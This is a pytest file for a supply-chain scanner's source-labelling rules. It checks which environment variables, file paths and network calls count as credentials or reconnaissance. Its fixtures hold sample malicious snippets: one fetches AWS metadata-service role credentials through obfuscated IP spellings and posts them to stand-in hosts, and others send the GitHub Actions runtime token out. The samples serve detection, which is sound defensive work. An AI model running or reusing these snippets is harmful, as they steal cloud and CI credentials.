"""What a read carries, by what it reads (caplet._scan._source_labels)."""

from __future__ import annotations

from pathlib import Path

import pytest

from caplet._scan._source_labels import downloads, env_read, file_labels, public_ip
from caplet._scan._sources import Source
from tests._scan.prefilterkit import found_in_a_package, tree_danger


@pytest.mark.parametrize(
    ("name", "downloaded"),
    [
        # any method of an RPC proxy is a request to its server (recall6)
        ("xmlrpc.client.ServerProxy().get_task", True),
        ("xmlrpc.client.ServerProxy().config.fetch", True),
        ("xmlrpclib.ServerProxy().next_job", True),
        ("xmlrpc.client.ServerProxy", False),
        ("xmlrpc.client.dumps", False),
        # ftplib's line reader hands its data to a callback, and returns the reply
        ("ftplib.FTP().retrlines", True),
        ("ftplib.FTP().login", False),
    ],
)
def test_an_rpc_proxys_answers_and_ftps_reads_are_downloads(name: str, downloaded: bool) -> None:
    assert downloads(name) is downloaded


def test_an_environment_variable_is_labelled_by_its_name() -> None:
    assert env_read("USER") == {(Source.RECON, "$USER")}
    assert env_read("GITHUB_TOKEN") == {(Source.SECRET, "GITHUB_TOKEN")}
    assert env_read("LANG") == frozenset()


def test_a_file_is_labelled_by_its_path() -> None:
    assert file_labels("/home/u/.ssh/id_rsa") == {(Source.CREDENTIAL, "SSH key")}
    assert file_labels("/etc/passwd") == {(Source.RECON, "/etc/passwd")}
    assert file_labels(None) == frozenset()


def test_a_public_ip_service_is_known_by_its_host() -> None:
    assert public_ip("https://api.ipify.org?format=json")
    assert public_ip("http://www.ifconfig.me/ip")
    assert not public_ip("https://api.example.com/ip")


# -- blind17: the metadata service under other spellings, its answers sent elsewhere ----------

#: tune b17-re-imds-decimal-ip: IMDS addressed as one integer, the role's credentials fetched
#: by a helper given the path, and what it answers posted to a collector.
METADATA_SENT = [
    "import urllib.request as u\nMD = 'http://2852039166'\n"
    "def get(path):\n    return u.urlopen(MD + path, timeout=2).read()\n"
    "role = get('/latest/meta-data/iam/' + 'info')\n"
    "u.urlopen('https://collector.example/c', data=role)\n",
    "import requests\nBASE = 'http://0xa9fea9fe/latest/meta-data/'\n"
    "def md(p):\n    return requests.get(BASE + p, timeout=2).text\n"
    "requests.post('https://sink.example/i',\n"
    "              data={'id': md('instance-id'), 'r': md('iam/info')})\n",
]


@pytest.mark.parametrize("source", METADATA_SENT)
def test_what_the_metadata_service_answers_sent_to_a_fixed_host_is_reconnaissance(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-017")


def test_a_metadata_client_that_hands_the_token_back_stays_clean(tmp_path: Path) -> None:
    # botocore's shape: an IMDSv2 token fetched, handed back to the service, answers returned
    (tmp_path / "mod.py").write_text(
        "import json, urllib.request\nBASE = 'http://169.254.169.254'\n"
        "def get(path, token=None, method='GET'):\n"
        "    h = {'X-aws-ec2-metadata-token': token} if token else {}\n"
        "    req = urllib.request.Request(BASE + path, method=method, headers=h)\n"
        "    return urllib.request.urlopen(req).read().decode()\n"
        "def region():\n"
        "    tok = get('/latest/api/token', method='PUT')\n"
        "    return get('/latest/meta-data/placement/region', tok)\n"
    )
    assert not tree_danger(tmp_path)


# -- blind17: GitHub Actions' runtime token, which only the runner's own steps use -------------


def test_the_actions_runtime_token_is_a_credential() -> None:
    assert env_read("ACTIONS_RUNTIME_TOKEN") == {
        (Source.CREDENTIAL, "the GitHub Actions runtime token")
    }


#: tune b17-ot-actions-cache-poison: the token used to reserve and upload a cache entry.
RUNTIME_TOKEN_SENT = [
    "import os, requests\ntok = os.environ.get('ACTIONS_RUNTIME_TOKEN')\n"
    "url = os.environ['ACTIONS_CACHE_URL'] + '_apis/artifactcache/caches'\n"
    "requests.post(url, json={'key': 'pip-Linux'}, headers={'Authorization': 'Bearer ' + tok})\n",
    "import os, urllib.request\nreq = urllib.request.Request('https://c.example/t',\n"
    "    data=os.getenv('ACTIONS_RUNTIME_TOKEN', '').encode())\nurllib.request.urlopen(req)\n",
]


@pytest.mark.parametrize("source", RUNTIME_TOKEN_SENT)
def test_the_runtime_token_sent_anywhere_is_a_credential_sent(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-007")


def test_the_tokens_a_package_may_use_stay_clean(tmp_path: Path) -> None:
    # GITHUB_TOKEN to GitHub's API; the OIDC request token to the URL the runner gives
    # (the id package's trusted publishing)
    (tmp_path / "mod.py").write_text(
        "import os, requests\n"
        "h = {'Authorization': 'token ' + os.environ['GITHUB_TOKEN']}\n"
        "requests.get('https://api.github.com/repos/o/r/releases', headers=h)\n"
        "url = os.environ['ACTIONS_ID_TOKEN_REQUEST_URL'] + '&audience=pypi'\n"
        "tok = os.environ['ACTIONS_ID_TOKEN_REQUEST_TOKEN']\n"
        "oidc = requests.get(url, headers={'Authorization': f'bearer {tok}'}).json()['value']\n"
    )
    assert not tree_danger(tmp_path)
